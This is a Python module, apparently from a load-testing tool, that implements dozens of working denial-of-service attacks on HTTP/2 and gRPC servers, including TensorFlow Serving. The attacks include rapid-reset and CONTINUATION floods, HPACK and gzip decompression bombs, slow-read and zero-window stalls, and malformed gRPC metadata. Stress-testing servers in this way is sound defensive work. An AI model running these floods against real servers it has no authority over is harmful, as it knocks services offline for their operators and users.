"""The attacks on HTTP/2, and on gRPC over HTTP/2. The docstring of each attack describes the bytes that it sends."""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable, Iterator

from loadtest.attacks import frames
from loadtest.attacks.attacker import Attacker, Conn, repeated
from loadtest.attacks.bombs import gzipped_zeros
from loadtest.attacks.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
)

# Number of streams that an attack opens on one connection; servers allow 100 to 1000.
_STREAMS = 1000
_FEW = 100
_CHUNK = 1 << 16
_HIGHEST_STREAM = 2**31 - 1
_SLOW_STEP_S = 0.005
_WINDOWS_A_STEP = 8
# Number of streams that get one byte at a time, and the pause between two bytes.
_DRIBBLED = 20
_DRIBBLE_S = 0.1
# Number of calls in flight of an attack whose calls are legal; servers allow 100 streams or more.
_AT_ONCE = 96
# Numbers of connections for attacks that open many streams on each connection.
_CONNECTIONS, _FEW_CONNECTIONS, _UNFINISHED = 100, 10, 500


def _streams(first: int = 1) -> Iterator[int]:
    return iter(range(first, _HIGHEST_STREAM, 2))


def _gathered(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """Joins small pieces of bytes into chunks of at least 64 KB."""
    chunk = bytearray()
    for piece in pieces:
        chunk += piece
        if len(chunk) >= _CHUNK:
            yield bytes(chunk)
            chunk.clear()
    if chunk:
        yield bytes(chunk)


def _waiting(attacker: Attacker, *, window: int = 0, is_large: bool = False) -> tuple[Conn, int]:
    """Sends requests on many streams, whose answers must wait for flow control; returns connection and last stream."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, window))
    last = 2 * (_FEW if is_large else _STREAMS) - 1
    asked = (attacker.target.request(stream, is_large=is_large) for stream in range(1, last + 1, 2))
    conn.send(_gathered(asked), attacker.end_s)
    conn.wait(min(time.monotonic() + 0.2, attacker.end_s))
    return conn, last


def window_updates(attacker: Attacker) -> None:
    """Sends WINDOW_UPDATE frames for the connection, while 1000 answers wait for the windows of their streams."""
    conn, _ = _waiting(attacker)
    attacker.flood(repeated(frames.window_update(0, 1)), conn)


def stream_window_updates(attacker: Attacker) -> None:
    """Sends WINDOW_UPDATE frames that each add 1 byte to the window of one of 1000 streams with waiting answers."""
    conn, last = _waiting(attacker)
    one_round = b"".join(frames.window_update(stream, 1) for stream in range(1, last + 1, 2))
    attacker.flood(repeated(one_round), conn)


def settings_beside_streams(attacker: Attacker) -> None:
    """Sends SETTINGS frames that change the window of 1000 streams with waiting answers to 1 byte and back."""
    conn, _ = _waiting(attacker)
    pair = frames.settings((INITIAL_WINDOW_SIZE, 1)) + frames.settings((INITIAL_WINDOW_SIZE, 0))
    attacker.flood(repeated(pair), conn)


def settings_flood(attacker: Attacker) -> None:
    """Sends empty SETTINGS frames, each of which the server must acknowledge."""
    attacker.flood(repeated(frames.settings()), attacker.http2())


def long_settings(attacker: Attacker) -> None:
    """Sends SETTINGS frames with 2730 values each."""
    values = [(INITIAL_WINDOW_SIZE, 65535 + number % 2) for number in range(2730)]
    attacker.flood(repeated(frames.settings(*values)), attacker.http2())


def settings_unread(attacker: Attacker) -> None:
    """Sends empty SETTINGS frames, whose acknowledgements the client does not read."""
    attacker.flood(repeated(frames.settings()), attacker.http2(receive_bytes=4096), reads=False)


def ping_flood(attacker: Attacker) -> None:
    """Sends PING frames without pause; the client reads the answers."""
    attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2())


def ping_unread(attacker: Attacker) -> None:
    """Sends PING frames without pause; the client does not read the answers."""
    attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2(receive_bytes=4096), reads=False)


def ping_acks(attacker: Attacker) -> None:
    """Sends PING frames with the ACK flag, for PINGs that the server never sent."""
    attacker.flood(repeated(frames.frame(PING, ACK, 0, bytes(8))), attacker.http2())


def unknown_frames(attacker: Attacker) -> None:
    """Sends empty frames of a type that HTTP/2 does not define."""
    attacker.flood(repeated(frames.frame(0x77, 0, 0)), attacker.http2())


def empty_data(attacker: Attacker) -> None:
    """Sends a request body of empty DATA frames."""
    conn = attacker.http2()
    conn.send([attacker.target.open_request(1)], attacker.end_s)
    attacker.flood(repeated(frames.frame(DATA, 0, 1)), conn)


def tiny_data(attacker: Attacker) -> None:
    """Sends a gRPC message that announces 1 MB, in DATA frames of 1 byte."""
    conn = attacker.http2()
    prefix = frames.frame(DATA, 0, 1, b"\0" + (1 << 20).to_bytes(4)) if attacker.target.is_grpc else b""
    conn.send([attacker.target.open_request(1) + prefix], attacker.end_s)
    attacker.flood(repeated(frames.frame(DATA, 0, 1, b"\0")), conn)


def padded_data(attacker: Attacker) -> None:
    """Sends a request body of DATA frames that hold only padding."""
    conn = attacker.http2()
    conn.send([attacker.target.open_request(1)], attacker.end_s)
    attacker.flood(repeated(frames.frame(DATA, 8, 1, b"\xff" + bytes(255))), conn)


def priority_flood(attacker: Attacker) -> None:
    """Sends PRIORITY frames for streams that the client never opens."""
    sent = (frames.frame(PRIORITY, 0, stream, bytes([0, 0, 0, 0, 16])) for stream in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def rapid_reset(attacker: Attacker) -> None:
    """Sends requests, and cancels each request at once."""
    target = attacker.target
    sent = (target.request(stream) + frames.reset(stream) for stream in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def open_and_reset(attacker: Attacker) -> None:
    """Begins requests, and cancels each request before its body is sent."""
    target = attacker.target
    sent = (target.open_request(stream) + frames.reset(stream) for stream in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def made_you_reset(attacker: Attacker) -> None:
    """Sends requests followed by a WINDOW_UPDATE of 0 bytes, which the server must answer with RST_STREAM."""
    target = attacker.target
    sent = (target.open_request(stream) + frames.window_update(stream, 0) for stream in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def made_you_reset_by_window(attacker: Attacker) -> None:
    """Sends requests followed by a WINDOW_UPDATE that overflows the window of their stream."""
    target = attacker.target
    sent = (target.open_request(s) + frames.window_update(s, frames.MAX_WINDOW) for s in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def made_you_reset_by_data(attacker: Attacker) -> None:
    """Sends complete requests, each followed by more DATA frames on its closed stream."""
    sent = (attacker.target.request(stream) + frames.frame(DATA, 0, stream, b"x") for stream in _streams())
    attacker.flood(_gathered(sent), attacker.http2())


def requests_flood(attacker: Attacker) -> None:
    """Sends small requests, as many as the server accepts, with large windows; the client reads the answers."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
    attacker.flood(_gathered(attacker.target.request(stream) for stream in _streams()), conn)


def continuation_flood(attacker: Attacker) -> None:
    """Sends a header block that never ends, in CONTINUATION frames of 1 KB each."""
    conn = attacker.http2()
    conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
    attacker.flood(repeated(frames.frame(CONTINUATION, 0, 1, frames.field(b"a", b"b" * 1000))), conn)


def empty_continuation(attacker: Attacker) -> None:
    """Sends a header block that never ends, in empty CONTINUATION frames."""
    conn = attacker.http2()
    conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
    attacker.flood(repeated(frames.frame(CONTINUATION, 0, 1)), conn)


def _header_bomb(attacker: Attacker, first: bytes, more: bytes) -> None:
    """Adds a header field to the HPACK table in the first request, and refers to it in every further request."""
    target = attacker.target
    opening = frames.frame(HEADERS, END_HEADERS, 1, target.fields() + first) + frames.reset(1)
    sent = (
        frames.frame(HEADERS, END_HEADERS, stream, target.fields() + more) + frames.reset(stream)
        for stream in _streams(3)
    )
    attacker.flood(itertools.chain([opening], _gathered(sent)), attacker.http2())


def hpack_index_bomb(attacker: Attacker) -> None:
    """Puts a header field of 3.9 KB into the HPACK table; each request then refers to it 12,000 times, by one byte."""
    _header_bomb(attacker, frames.field(b"x", b"y" * 3900, first=0x40), b"\xbe" * 12_000)


def hpack_huffman(attacker: Attacker) -> None:
    """Sends header values of 12 KB in Huffman code that decode to 19 KB."""
    # In HPACK's Huffman code 00000 is the letter "0", so zero bytes decode to one letter for each 5 bits.
    value = frames.integer(1, 7) + b"x" + frames.integer(12_000, 7, 0x80) + bytes(12_000)
    _header_bomb(attacker, b"", b"\x00" + value)


def hpack_huffman_flood(attacker: Attacker) -> None:
    """Sends requests without a body whose header blocks have 65 KB of Huffman code, and reads the answers."""
    value = frames.integer(1, 7) + b"x" + frames.integer(65_000, 7, 0x80) + bytes(65_000)
    block = attacker.target.fields() + b"\x00" + value

    def request(stream: int) -> bytes:
        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        kinds = [(HEADERS, END_STREAM), *[(CONTINUATION, 0)] * (len(parts) - 2), (CONTINUATION, END_HEADERS)]
        return b"".join(frames.frame(*kind, stream, part) for kind, part in zip(kinds, parts, strict=True))

    attacker.flood(map(request, _streams()), attacker.http2())


def many_fields(attacker: Attacker) -> None:
    """Sends requests with 3,000 header fields each, all of which are empty."""
    _header_bomb(attacker, b"", frames.field(b"a", b"") * 3000)


def table_resizes(attacker: Attacker) -> None:
    """Sends requests; the header block of each request resizes the HPACK table 3,000 times."""
    target = attacker.target
    resizes = (b"\x20" + frames.integer(4096, 5, 0x20)) * 3000
    sent = (
        frames.frame(HEADERS, END_HEADERS, stream, resizes + target.fields()) + frames.reset(stream)
        for stream in _streams()
    )
    attacker.flood(_gathered(sent), attacker.http2())


def unread_answers(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes on many streams, with large windows; the client reads nothing."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW), receive_bytes=4096)
    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
    asked = (attacker.target.request(stream, is_large=True) for stream in itertools.islice(_streams(), _FEW))
    attacker.flood(asked, conn, reads=False)


def slow_read(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes on 100 streams; the client grants the streams 1 byte each, in turn."""
    conn, last = _waiting(attacker, is_large=True)
    streams = itertools.cycle(range(1, last + 1, 2))
    grants = (
        b"".join(frames.window_update(stream, 1) for stream in itertools.islice(streams, _WINDOWS_A_STEP))
        for _ in itertools.count()
    )
    conn.send(grants, attacker.end_s, pause_s=_SLOW_STEP_S)
    conn.last_word(attacker.seconds)


def byte_windows(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes, which use up the connection's window; then WINDOW_UPDATEs of 1 byte."""
    conn, _ = _waiting(attacker, window=frames.MAX_WINDOW, is_large=True)
    attacker.flood(repeated(frames.window_update(0, 1)), conn)


def zero_window(attacker: Attacker) -> None:
    """Sends requests for answers of megabytes on 100 streams whose windows are 0, so the server can send nothing."""
    conn, _ = _waiting(attacker, is_large=True)
    conn.wait(attacker.end_s)
    conn.last_word(attacker.seconds)


def half_requests(attacker: Attacker) -> None:
    """Begins requests on 1000 streams of one connection, and never ends them."""
    conn = attacker.http2()
    begun = frames.frame(DATA, 0, 0, b"\0" + (1 << 20).to_bytes(4) + bytes(1000))
    sent = (
        attacker.target.open_request(stream) + begun[:5] + stream.to_bytes(4) + begun[9:]
        for stream in range(1, 2 * _STREAMS, 2)
    )
    attacker.flood(_gathered(sent), conn)


def slow_body(attacker: Attacker) -> None:
    """Sends messages on 20 streams, of which none becomes complete: each gets one more byte ten times a second."""
    conn = attacker.http2()
    conn.unfinished = frozenset(range(1, 2 * _DRIBBLED, 2))
    prefix = b"\0" + (1 << 20).to_bytes(4)
    asked = (
        attacker.target.open_request(stream) + frames.frame(DATA, 0, stream, prefix)
        for stream in sorted(conn.unfinished)
    )
    conn.send(_gathered(asked), attacker.end_s)

    def rounds() -> Iterator[bytes]:
        while waiting := sorted(conn.unfinished - conn.received.ended_streams):
            yield b"".join(frames.frame(DATA, 0, stream, b"\0") for stream in waiting)

    conn.send(rounds(), attacker.end_s, pause_s=_DRIBBLE_S)


def no_preface(attacker: Attacker) -> None:
    """Opens 600 connections; sends nothing on one half, and half of the HTTP/2 preface on the other half."""
    conns = [conn for _ in range(600) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
    for conn in conns[::2]:
        conn.send([frames.PREFACE[:10]], attacker.end_s)
    attacker.until_closed(conns)


def wrong_preface(attacker: Attacker) -> None:
    """Sends HTTP/1.1 requests to the port for HTTP/2."""
    attacker.flood(repeated(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"))


def many_messages(attacker: Attacker) -> None:
    """Sends a unary gRPC call with a million empty messages."""
    conn = attacker.http2()
    conn.send([attacker.target.open_request(1)], attacker.end_s)
    attacker.flood(repeated(frames.frame(DATA, 0, 1, bytes(5) * 3000)), conn)


_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def _gzip_bombs(attacker: Attacker, begun: bytes = b"", path: str = "") -> None:
    """Calls a gRPC method on many streams; each body is `begun` and then a message that inflates to 60 MB."""
    bomb = gzipped_zeros(60)
    body = begun + b"\1" + len(bomb).to_bytes(4) + bomb
    parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
    head = attacker.target.fields((b"grpc-encoding", b"gzip"), path=path)
    conn = attacker.http2()

    def asked() -> Iterator[bytes]:
        for stream in _streams():
            sent = [frames.frame(HEADERS, END_HEADERS, stream, head)]
            sent += [frames.frame(DATA, 0, stream, part) for part in parts[:-1]]
            yield b"".join([*sent, frames.frame(DATA, 1, stream, parts[-1])])
            # Read answers and WINDOW_UPDATE frames for a moment, so that the flow-control windows are open for the next
            # message.
            conn.wait(min(time.monotonic() + 0.02, attacker.end_s))

    attacker.flood(asked(), conn)


def gzip_messages(attacker: Attacker) -> None:
    """Sends gRPC messages of 60 KB that inflate to 60 MB each, on one stream after another."""
    _gzip_bombs(attacker)


def second_gzip_messages(attacker: Attacker) -> None:
    """Sends gRPC messages that inflate to 60 MB, each as the second message of a unary call; the first one is empty."""
    _gzip_bombs(attacker, bytes(5))


def stream_gzip_messages(attacker: Attacker) -> None:
    """Sends gRPC messages that inflate to 60 MB, each as the second message of a call of gRPC's reflection service."""
    _gzip_bombs(attacker, bytes(5), _REFLECTION)


def _wide(attacker: Attacker) -> Conn:
    """Opens an HTTP/2 connection with the largest flow-control windows for answers."""
    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
    return conn


def _calls(attacker: Attacker, call: Callable[[int], bytes]) -> None:
    """Keeps legal calls in flight on one connection.

    Args:
      call: returns the frames of a call, given the number of its stream.
    """
    conn = _wide(attacker)
    streams = _streams()
    begun = 0
    while not attacker.is_over and not conn.closed:
        free = _AT_ONCE - (begun - len(conn.received.ended_streams))
        if free > 0:
            conn.send([b"".join(map(call, itertools.islice(streams, free)))], attacker.end_s)
            begun += free
        else:
            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
    conn.last_word(attacker.seconds)


def _body(attacker: Attacker, stream: int, message: bytes | None = None) -> bytes:
    data = attacker.target.body if message is None else b"\0" + len(message).to_bytes(4) + message
    return frames.frame(DATA, END_STREAM, stream, data)


def dependencies(attacker: Attacker) -> None:
    """Sends requests whose HEADERS frames each depend on the next stream, by HTTP/2's former stream priorities."""
    fields = attacker.target.fields()

    def call(stream: int) -> bytes:
        priority = (stream + 2 | 1 << 31).to_bytes(4) + b"\xff"
        ends = END_STREAM if not attacker.target.body else 0
        head = frames.frame(HEADERS, END_HEADERS | 0x20 | ends, stream, priority + fields)
        return head if ends else head + _body(attacker, stream)

    _calls(attacker, call)


def window_changes(attacker: Attacker) -> None:
    """Sends SETTINGS frames that open and close the windows of 100 streams whose answers have megabytes."""
    conn, _ = _waiting(attacker, is_large=True)
    pair = frames.settings((INITIAL_WINDOW_SIZE, 1000)) + frames.settings((INITIAL_WINDOW_SIZE, 0))
    attacker.flood(repeated(pair), conn)


def byte_continuations(attacker: Attacker) -> None:
    """Sends requests whose header blocks arrive in CONTINUATION frames of 1 byte."""
    fields = attacker.target.fields()

    def request(stream: int) -> bytes:
        parts = [frames.frame(HEADERS, 0, stream)]
        parts += [frames.frame(CONTINUATION, 0, stream, fields[at : at + 1]) for at in range(len(fields))]
        return b"".join([*parts, frames.frame(CONTINUATION, END_HEADERS, stream)])

    attacker.flood(_gathered(map(request, _streams())), attacker.http2())


def push_promises(attacker: Attacker) -> None:
    """Sends PUSH_PROMISE frames, which only a server may send."""
    conn = attacker.http2()
    conn.send([attacker.target.open_request(1)], attacker.end_s)
    promise = (2).to_bytes(4) + attacker.target.fields()
    attacker.flood(repeated(frames.frame(frames.PUSH_PROMISE, END_HEADERS, 1, promise)), conn)


def _begun(attacker: Attacker, connections: int, begin: Callable[[int], bytes]) -> None:
    """Begins a call on each of 100 streams of many connections, and reads answers until the time is over."""
    begun = b"".join(map(begin, range(1, 2 * _FEW, 2)))
    conns: list[Conn] = []
    for _ in range(connections):
        if not attacker.is_over and (conn := attacker.connect()) is not None:
            conns.append(conn)
            conn.send([frames.PREFACE + frames.settings() + begun], attacker.end_s)
    attacker.until_closed(conns)


def _unfinished(attacker: Attacker, begin: Callable[[Conn], bytes]) -> None:
    """Sends the beginning of a frame or request on each of 500 connections, and then nothing.

    Args:
      begin: returns the bytes, given a connection whose server has sent its SETTINGS.
    """
    conns = [conn for _ in range(_UNFINISHED) if not attacker.is_over and (conn := attacker.connect())]
    for conn in conns:
        conn.send([frames.PREFACE + frames.settings()], attacker.end_s)
    for conn in conns:
        conn.answer(attacker.end_s)
        conn.send([begin(conn)], attacker.end_s)
    attacker.until_closed(conns)


def half_frames(attacker: Attacker) -> None:
    """Sends a frame of the largest size, without its last byte, on each of 500 connections."""

    def begin(conn: Conn) -> bytes:
        return frames.frame(0x77, 0, 0, bytes(conn.received.max_frame))[:-1]

    _unfinished(attacker, begin)


def half_headers(attacker: Attacker) -> None:
    """Sends a header block of 60 KB, without its last frame, on each of 500 connections."""
    filler = frames.block([(b"h", b"v" * 15_000)])
    begun = frames.frame(HEADERS, 0, 1, attacker.target.fields())
    _unfinished(attacker, lambda conn: begun + frames.frame(CONTINUATION, 0, 1, filler) * 4)


def large_headers(attacker: Attacker) -> None:
    """Sends requests with 60 KB of headers on 100 streams of each of 10 connections, and never sends their bodies."""
    more = [(b"h%d" % number, b"v" * 4000) for number in range(15)]
    fields = attacker.target.fields(*more)
    parts = [fields[at : at + 16384] for at in range(0, len(fields), 16384)]

    def begin(stream: int) -> bytes:
        sent = [frames.frame(HEADERS, 0, stream, parts[0])]
        sent += [frames.frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
        return b"".join([*sent, frames.frame(CONTINUATION, END_HEADERS, stream, parts[-1])])

    _begun(attacker, _FEW_CONNECTIONS, begin)


_WATCH = "/grpc.health.v1.Health/Watch"
_STATUS = "/tensorflow.serving.ModelService/GetModelStatus"
# Metadata that gRPC's specification does not allow, or that gRPC's C++ core can not parse.
_ODD_METADATA = (
    (b"grpc-timeout", b"1x"),
    (b"grpc-timeout", b"99999999H"),
    (b"grpc-encoding", b"odd"),
    (b"grpc-previous-rpc-attempts", b"many"),
    (b"x-bin", b"***"),
    (b"x", b"\xff"),
)


def health_watches(attacker: Attacker) -> None:
    """Calls Health/Watch, which never ends by itself, on 100 streams of each of 100 connections."""
    fields = attacker.target.fields(path=_WATCH)

    def begin(stream: int) -> bytes:
        return frames.frame(HEADERS, END_HEADERS, stream, fields) + _body(attacker, stream, b"")

    _begun(attacker, _CONNECTIONS, begin)


def many_watches(attacker: Attacker) -> None:
    """Makes eight calls to Health/Watch, which never ends by itself, on each of 500 connections."""
    fields = attacker.target.fields(path=_WATCH)
    calls = [frames.frame(HEADERS, END_HEADERS, s, fields) + _body(attacker, s, b"") for s in range(1, 17, 2)]
    _unfinished(attacker, lambda conn: b"".join(calls))


def odd_metadata(attacker: Attacker) -> None:
    """Makes calls with malformed deadlines, unknown encodings, and metadata that is neither valid base64 nor text."""
    heads = itertools.cycle([attacker.target.fields(pair, path=_STATUS) for pair in _ODD_METADATA])
    _calls(attacker, lambda s: frames.frame(HEADERS, END_HEADERS, s, next(heads)) + _body(attacker, s, b""))


def unknown_models(attacker: Attacker) -> None:
    """Sends Predict calls, each for another model that does not exist."""
    fields = attacker.target.fields()

    def call(stream: int) -> bytes:
        name = b"m%010d" % stream
        spec = b"\x0a" + bytes([len(name)]) + name
        message = b"\x0a" + bytes([len(spec)]) + spec
        return frames.frame(HEADERS, END_HEADERS, stream, fields) + _body(attacker, stream, message)

    _calls(attacker, call)


def _same_call(attacker: Attacker, path: str, message: bytes) -> None:
    fields = attacker.target.fields(path=path)
    _calls(attacker, lambda s: frames.frame(HEADERS, END_HEADERS, s, fields) + _body(attacker, s, message))


def model_metadata(attacker: Attacker) -> None:
    """Calls GetModelMetadata for a model's signatures."""
    name = attacker.target.model.encode()
    spec = b"\x0a%c" % len(name) + name
    message = b"\x0a%c" % len(spec) + spec + b"\x12\x0dsignature_def"
    _same_call(attacker, "/tensorflow.serving.PredictionService/GetModelMetadata", message)


def reflections(attacker: Attacker) -> None:
    """Makes reflection calls that ask for the file of a service."""
    name = b"tensorflow.serving.PredictionService"
    _same_call(attacker, _REFLECTION, b"\x22%c" % len(name) + name)


def reloads(attacker: Attacker) -> None:
    """Calls HandleReloadConfigRequest, half of the calls without a list of models, and half with a malformed one."""
    fields = attacker.target.fields(path="/tensorflow.serving.ModelService/HandleReloadConfigRequest")
    _calls(
        attacker,
        lambda s: frames.frame(HEADERS, END_HEADERS, s, fields) + _body(attacker, s, b"" if s % 4 == 1 else b"\xff"),
    )
